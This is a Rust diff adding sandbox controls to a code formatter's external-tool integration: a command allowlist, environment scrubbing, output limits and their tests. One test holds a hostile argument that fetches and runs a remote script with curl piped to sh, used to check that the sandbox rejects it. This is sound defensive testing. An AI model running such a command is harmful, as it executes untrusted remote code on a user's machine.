@@ -1,9 +1,9 @@
 //! Common types and utilities for external formatter integration.
 
-use std::collections::{HashMap, HashSet};
+use std::collections::{BTreeMap, HashSet};
 use std::sync::{Mutex, OnceLock};
 
-use crate::config::FormatterConfig;
+use crate::config::{ExternalSandboxConfig, FormatterConfig, all_formatter_preset_metadata};
 use crate::external_tools_common::{find_missing_commands, missing_commands_warning_message};
 
 static MISSING_FORMATTER_MESSAGES_LOGGED: OnceLock<Mutex<HashSet<String>>> = OnceLock::new();
@@ -34,6 +34,8 @@ pub enum FormatterError {
     Timeout,
     /// I/O error during communication with formatter
     IoError(std::io::Error),
+    /// Formatter output exceeded `[external-sandbox] max-output-bytes`
+    OutputTooLarge { limit: usize },
 }
 
 impl std::fmt::Display for FormatterError {
@@ -45,6 +47,9 @@ impl std::fmt::Display for FormatterError {
             }
             Self::Timeout => write!(f, "formatter timed out"),
             Self::IoError(e) => write!(f, "formatter I/O error: {}", e),
+            Self::OutputTooLarge { limit } => {
+                write!(f, "formatter output exceeded the {} byte limit", limit)
+            }
         }
     }
 }
@@ -57,10 +62,43 @@ impl From<std::io::Error> for FormatterError {
     }
 }
 
+/// A formatter chain step that failed, leaving its code blocks unformatted.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FormatterFailure {
+    /// Language of the code blocks.
+    pub language: String,
+    /// The formatter command that failed.
+    pub command: String,
+    /// Byte ranges, in the host document, of the code blocks left unformatted.
+    pub ranges: Vec<std::ops::Range<usize>>,
+    /// What went wrong: the error and the first line of the formatter's stderr.
+    pub message: String,
+}
+
+impl FormatterFailure {
+    pub(crate) fn new(language: &str, command: &str, error: &FormatterError) -> Self {
+        let message = match error {
+            FormatterError::NonZeroExit { code, stderr } => {
+                match stderr.lines().map(str::trim).find(|line| !line.is_empty()) {
+                    Some(first) => format!("exited with code {code}: {first}"),
+                    None => format!("exited with code {code}"),
+                }
+            }
+            other => other.to_string(),
+        };
+        Self {
+            language: language.to_string(),
+            command: command.to_string(),
+            ranges: Vec::new(),
+            message,
+        }
+    }
+}
+
 /// Find external formatter commands that are configured but unavailable.
 #[cfg(not(target_arch = "wasm32"))]
 pub fn find_missing_formatter_commands(
-    formatters: &HashMap<String, Vec<FormatterConfig>>,
+    formatters: &BTreeMap<String, Vec<FormatterConfig>>,
 ) -> HashSet<String> {
     find_missing_commands(
         formatters
@@ -72,11 +110,76 @@ pub fn find_missing_formatter_commands(
 /// WASM has no external formatter execution.
 #[cfg(target_arch = "wasm32")]
 pub fn find_missing_formatter_commands(
-    _formatters: &HashMap<String, Vec<FormatterConfig>>,
+    _formatters: &BTreeMap<String, Vec<FormatterConfig>>,
 ) -> HashSet<String> {
     HashSet::new()
 }
 
+/// Environment variables passed through to formatters when
+/// `[external-sandbox] scrub-env` is enabled. Everything else (proxy settings,
+/// tokens, cloud credentials) is dropped. Locale variables (`LC_*`) are kept
+/// separately by prefix.
+pub(crate) const SCRUBBED_ENV_ALLOWLIST: &[&str] = &[
+    "PATH",
+    "HOME",
+    "USER",
+    "LANG",
+    "LANGUAGE",
+    "TMPDIR",
+    "TEMP",
+    "TMP",
+    // Windows processes fail to start or resolve commands without these.
+    "SYSTEMROOT",
+    "SYSTEMDRIVE",
+    "WINDIR",
+    "COMSPEC",
+    "PATHEXT",
+    "USERPROFILE",
+    "APPDATA",
+    "LOCALAPPDATA",
+];
+
+/// Whether `name` survives environment scrubbing.
+pub(crate) fn is_scrubbed_env_allowed(name: &str) -> bool {
+    name.starts_with("LC_")
+        || SCRUBBED_ENV_ALLOWLIST
+            .iter()
+            .any(|allowed| allowed.eq_ignore_ascii_case(name))
+}
+
+/// Whether `formatter` may be spawned under the sandbox's command policy.
+///
+/// Without `restrict-commands` every command is allowed. With it, only the
+/// explicit `allowed-commands` entries and exact built-in preset invocations
+/// are. A preset counts only when both its command and its args match, so
+/// `Rscript -e '...'` is not allowed just because a preset runs `Rscript`.
+pub fn is_formatter_command_allowed(
+    formatter: &FormatterConfig,
+    sandbox: &ExternalSandboxConfig,
+) -> bool {
+    if !sandbox.restrict_commands {
+        return true;
+    }
+    let command = formatter.cmd.trim();
+    sandbox
+        .allowed_commands
+        .iter()
+        .any(|allowed| allowed.trim() == command)
+        || all_formatter_preset_metadata()
+            .iter()
+            .any(|preset| preset.cmd == command && preset.args.iter().eq(formatter.args.iter()))
+}
+
+/// Build the warning emitted when a formatter chain is skipped because one of
+/// its commands is not allowlisted.
+pub fn disallowed_formatter_warning_message(command: &str, language: &str) -> String {
+    format!(
+        "External formatter '{}' for {} is not allowlisted (`[external-sandbox] restrict-commands`); \
+         add it to `allowed-commands` to run it. Code blocks are left unchanged.",
+        command, language
+    )
+}
+
 /// Log one consolidated info message for missing external formatter commands.
 ///
 /// Missing commands are a common optional configuration scenario and should not
@@ -248,8 +351,8 @@ pub(crate) fn temp_file_extension_for_language(language: &str) -> &'static str {
         "r" => "r",
         "python" | "py" => "py",
         "rust" | "rs" => "rs",
-        "go" => "go",
-        "bash" | "sh" | "zsh" => "sh",
+        "go" | "golang" => "go",
+        "bash" | "sh" | "zsh" | "shell" => "sh",
         "c" => "c",
         "cpp" | "c++" | "cxx" => "cpp",
         "csharp" | "c-sharp" | "cs" => "cs",
@@ -320,7 +423,7 @@ pub(crate) fn canonical_language(language: &str) -> String {
 /// same alias group (see [`canonical_language`]) matches, so `[formatters] jl`
 /// formats a `{julia}` block and vice versa.
 pub(crate) fn resolve_formatter_configs<'a>(
-    formatters: &'a HashMap<String, Vec<FormatterConfig>>,
+    formatters: &'a BTreeMap<String, Vec<FormatterConfig>>,
     language: &str,
 ) -> Option<&'a Vec<FormatterConfig>> {
     if let Some(configs) = formatters.get(language) {
@@ -340,16 +443,17 @@ fn missing_formatter_warning_message(missing: &HashSet<String>) -> Option<String
 #[cfg(all(test, not(target_arch = "wasm32")))]
 mod tests {
     use super::{
-        canonical_language, find_missing_formatter_commands, missing_formatter_warning_message,
-        resolve_file_args, resolve_formatter_configs, resolve_stdin_args, substitute_placeholders,
+        canonical_language, find_missing_formatter_commands, is_formatter_command_allowed,
+        is_scrubbed_env_allowed, missing_formatter_warning_message, resolve_file_args,
+        resolve_formatter_configs, resolve_stdin_args, substitute_placeholders,
         temp_file_extension_for_language,
     };
-    use crate::config::FormatterConfig;
-    use std::collections::{HashMap, HashSet};
+    use crate::config::{ExternalSandboxConfig, FormatterConfig};
+    use std::collections::{BTreeMap, HashSet};
 
     #[test]
     fn reports_missing_commands_once() {
-        let mut formatters = HashMap::new();
+        let mut formatters = BTreeMap::new();
         formatters.insert(
             "python".to_string(),
             vec![
@@ -357,11 +461,13 @@ mod tests {
                     cmd: "definitely-not-a-real-formatter-123".to_string(),
                     args: vec![],
                     stdin: true,
+                    timeout_ms: None,
                 },
                 FormatterConfig {
                     cmd: "definitely-not-a-real-formatter-123".to_string(),
                     args: vec![],
                     stdin: true,
+                    timeout_ms: None,
                 },
             ],
         );
@@ -373,13 +479,14 @@ mod tests {
 
     #[test]
     fn skips_empty_commands() {
-        let mut formatters = HashMap::new();
+        let mut formatters = BTreeMap::new();
         formatters.insert(
             "python".to_string(),
             vec![FormatterConfig {
                 cmd: "   ".to_string(),
                 args: vec![],
                 stdin: true,
+                timeout_ms: None,
             }],
         );
 
@@ -540,6 +647,8 @@ mod tests {
         assert_eq!(canonical_language("python"), canonical_language("py"));
         assert_eq!(canonical_language("rust"), canonical_language("rs"));
         assert_eq!(canonical_language("bash"), canonical_language("sh"));
+        assert_eq!(canonical_language("shell"), canonical_language("sh"));
+        assert_eq!(canonical_language("golang"), canonical_language("go"));
         // Normalization: whitespace, case, leading dot, underscores.
         assert_eq!(canonical_language("  .Julia "), canonical_language("jl"));
         assert_eq!(canonical_language("c_sharp"), canonical_language("cs"));
@@ -557,6 +666,7 @@ mod tests {
             cmd: "fatou".to_string(),
             args: vec![],
             stdin: true,
+            timeout_ms: None,
         }]
     }
 
@@ -564,7 +674,7 @@ mod tests {
     fn resolve_formatter_configs_matches_via_alias() {
         // Config keyed on `jl`, code block reported as `julia` (the Quarto
         // executable-cell spelling): the alias must still resolve.
-        let mut formatters = HashMap::new();
+        let mut formatters = BTreeMap::new();
         formatters.insert("jl".to_string(), fatou_like_chain());
 
         assert!(resolve_formatter_configs(&formatters, "julia").is_some());
@@ -575,13 +685,14 @@ mod tests {
     #[test]
     fn resolve_formatter_configs_prefers_exact_key() {
         // When both spellings are configured, the literal block language wins.
-        let mut formatters = HashMap::new();
+        let mut formatters = BTreeMap::new();
         formatters.insert(
             "jl".to_string(),
             vec![FormatterConfig {
                 cmd: "runic".to_string(),
                 args: vec![],
                 stdin: true,
+                timeout_ms: None,
             }],
         );
         formatters.insert("julia".to_string(), fatou_like_chain());
@@ -589,4 +700,76 @@ mod tests {
         let resolved = resolve_formatter_configs(&formatters, "julia").expect("resolved");
         assert_eq!(resolved[0].cmd, "fatou");
     }
+
+    fn command(cmd: &str, args: &[&str]) -> FormatterConfig {
+        FormatterConfig {
+            cmd: cmd.to_string(),
+            args: args.iter().map(ToString::to_string).collect(),
+            stdin: true,
+            timeout_ms: None,
+        }
+    }
+
+    #[test]
+    fn unrestricted_sandbox_allows_any_command() {
+        let sandbox = ExternalSandboxConfig::default();
+        assert!(is_formatter_command_allowed(
+            &command("./scripts/fmt.sh", &[]),
+            &sandbox
+        ));
+    }
+
+    #[test]
+    fn restricted_sandbox_allows_presets_and_allowlist_only() {
+        let sandbox = ExternalSandboxConfig {
+            restrict_commands: true,
+            allowed_commands: vec!["my-fmt".to_string()],
+            ..Default::default()
+        };
+        let air = crate::config::get_formatter_preset("air").expect("air preset");
+        let ruff = crate::config::get_formatter_preset("ruff").expect("ruff preset");
+        assert!(is_formatter_command_allowed(&air, &sandbox));
+        assert!(is_formatter_command_allowed(&ruff, &sandbox));
+        assert!(is_formatter_command_allowed(
+            &command("my-fmt", &["--anything"]),
+            &sandbox
+        ));
+        assert!(!is_formatter_command_allowed(
+            &command("curl", &[]),
+            &sandbox
+        ));
+        // Preset *names* are not enough: the resolved command must match.
+        assert!(!is_formatter_command_allowed(
+            &command("cue-fmt", &[]),
+            &sandbox
+        ));
+    }
+
+    #[test]
+    fn restricted_sandbox_rejects_preset_commands_with_other_args() {
+        let sandbox = ExternalSandboxConfig {
+            restrict_commands: true,
+            ..Default::default()
+        };
+        assert!(!is_formatter_command_allowed(
+            &command("Rscript", &["-e", "system('curl evil.sh | sh')"]),
+            &sandbox
+        ));
+        assert!(!is_formatter_command_allowed(
+            &command("deno", &["run", "-A", "script.ts"]),
+            &sandbox
+        ));
+        let mut extended = crate::config::get_formatter_preset("air").expect("air preset");
+        extended.args.push("--extra".to_string());
+        assert!(!is_formatter_command_allowed(&extended, &sandbox));
+    }
+
+    #[test]
+    fn scrubbed_env_keeps_path_and_locale_only() {
+        assert!(is_scrubbed_env_allowed("PATH"));
+        assert!(is_scrubbed_env_allowed("LC_ALL"));
+        assert!(is_scrubbed_env_allowed("SystemRoot"));
+        assert!(!is_scrubbed_env_allowed("HTTPS_PROXY"));
+        assert!(!is_scrubbed_env_allowed("GITHUB_TOKEN"));
+    }
 }